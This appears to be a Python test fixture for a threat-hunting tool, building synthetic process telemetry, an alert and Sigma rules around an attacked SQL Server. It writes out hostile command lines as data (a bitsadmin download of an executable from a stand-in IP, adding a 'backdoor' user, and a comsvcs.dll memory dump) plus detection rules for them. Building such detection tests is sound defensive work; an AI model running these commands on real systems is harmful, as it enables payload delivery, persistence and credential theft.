"""A fleet small enough to read, in which the same deed is done twice: by an attacked SQL Server, which an alert tells
of, and by a person of another tenant, which nothing tells of."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl

from longtail.executions.schema import PROCESS_EVENT

MONDAY = datetime(2026, 3, 2, 9, tzinfo=UTC)
HOSTS, DAYS = 40, 14
SQL, SYSTEM, ALICE = "NT SERVICE\\MSSQLSERVER", "NT AUTHORITY\\SYSTEM", "FABRIKAM\\alice"
SERVER = "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.A\\MSSQL\\Binn\\sqlservr.exe"
NET, RUNDLL32 = "C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\rundll32.exe"
BITSADMIN, CONHOST = "C:\\Windows\\System32\\bitsadmin.exe", "C:\\Windows\\System32\\conhost.exe"
PASSWORD = "Winter2026!x"
ATTACK = (
    "bitsadmin /transfer n http://198.51.100.7/Svn.exe C:\\Users\\Public\\Svn.exe",
    f"net user backdoor {PASSWORD} /add",
    "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\q7zk.dmp full",
)
ELSEWHERE = "bitsadmin /transfer job77 http://203.0.113.50/a/upd.exe C:\\Users\\Public\\upd.exe"
INSTANCE = ("198.51.100.7", "Svn", "backdoor", "db3", "q7zk", PASSWORD)
"""What belongs to the one incident and to no technique."""

Start = dict[str, Any]


def start(host: str, day: int, what: tuple[str, str], who: tuple[str, str, str]) -> Start:
    """One process start: ``what`` is image and command line, ``who`` tenant, account and parent."""
    (image, line), (tenant, account, parent) = what, who
    return {"time": MONDAY + timedelta(days=day), "tenant": tenant, "host": host, "account": account, "image": image,
            "command_line": line, "parent_image": parent}  # fmt: skip


def everyday() -> list[Start]:
    """Forty hosts of two tenants over fourteen days; every fifth of them lists its transfers."""
    found = []
    for number in range(HOSTS):
        who = ("contoso" if number % 2 else "fabrikam", SYSTEM, "C:\\Windows\\System32\\svchost.exe")
        for day in range(DAYS):
            found.append(start(f"db{number}", day, (CONHOST, "conhost.exe 0x4"), who))
            if number % 5 == 0:
                found.append(start(f"db{number}", day, (BITSADMIN, "bitsadmin /list /allusers"), who))
    return found


def attacks() -> list[Start]:
    """The deeds of the alert, and one of them done by somebody else."""
    sql, alice = ("contoso", SQL, SERVER), ("fabrikam", ALICE, "C:\\Windows\\explorer.exe")
    return [
        start("db3", DAYS - 1, (BITSADMIN, ATTACK[0]), sql),
        start("db3", DAYS - 1, (NET, ATTACK[1]), sql),
        start("db3", DAYS - 1, (RUNDLL32, ATTACK[2]), sql),
        start("db8", DAYS - 2, (BITSADMIN, ELSEWHERE), alice),
    ]


def telemetry(folder: Path) -> Path:
    """The fleet's starts as a file."""
    file = folder / "starts.parquet"
    pl.DataFrame([*everyday(), *attacks()], schema=PROCESS_EVENT).write_parquet(file)
    return file


def alert(**given: Any) -> dict[str, Any]:
    """The alert of the SQL Server, as a hunt writes it."""
    moment = (MONDAY + timedelta(days=DAYS - 1)).isoformat()
    told = [("bitsadmin.exe", BITSADMIN, ATTACK[0]), ("net.exe", NET, ATTACK[1]),
            ("rundll32.exe", RUNDLL32, ATTACK[2])]  # fmt: skip
    executions = [
        {"time": moment, "image": image, "executable": f"\\windows\\system32\\{name}", "hosted_by": None,
         "command_line": line, "parent_image": SERVER, "role": "anomaly"}
        for name, image, line in told
    ]  # fmt: skip
    return {
        "id": "a1", "tenant": "contoso", "account": SQL, "account_class": "mssql", "host": "db3", "first_seen": moment,
        "last_seen": moment, "score": 44.0, "severity": "high", "title": "t", "reason": "r", "executions": executions,
        "techniques": ["T1105", "T1197"], "similar": [], **given,
    }  # fmt: skip


def alerts(folder: Path, *lines: str) -> Path:
    """A file of alerts: the one there is, and whatever else is on its lines."""
    file = folder / "alerts.jsonl"
    file.write_text("".join(f"{line}\n" for line in (json.dumps(alert()), *lines)), "utf-8")
    return file


LISTS = (
    "title: Lists transfers\nid: 11e5c0de-0000-4000-8000-000000000001\nstatus: test\nlevel: low\n"
    "tags: [attack.t1197]\nlogsource: {category: process_creation, product: windows}\n"
    "detection: {s: {Image|endswith: '\\bitsadmin.exe', CommandLine|contains: '/list'}, condition: s}\n"
)
FETCHES = LISTS.replace("/list", "/transfer").replace("Lists transfers", "Fetches").replace("low", "high").replace(
    "000000000001", "000000000002"
)  # fmt: skip
DUMPS = LISTS.replace("bitsadmin", "rundll32").replace("/list", "minidump").replace("Lists transfers", "Dumps").replace(
    "000000000001", "000000000003"
)  # fmt: skip
HASHES = "title: Knows a hash\nlogsource: {category: process_creation}\ndetection: {s: {Hashes: a}, condition: s}\n"
NETWORK = "title: Connects\nlogsource: {category: network_connection}\ndetection: {s: {a: b}, condition: s}\n"
BROKEN = "title: [\n"


def rule_folder(folder: Path) -> Path:
    """Rules that fire, that cannot be judged, that are about something else, and one that is no rule."""
    rules = folder / "sigma"
    (rules / "deep").mkdir(parents=True)
    for name, text in (("lists.yml", LISTS), ("deep/fetches.yaml", FETCHES), ("hashes.yml", HASHES),
                       ("network.yml", NETWORK), ("broken.yml", BROKEN), ("readme.md", "# no rule")):  # fmt: skip
        (rules / name).write_text(text, "utf-8")
    return rules
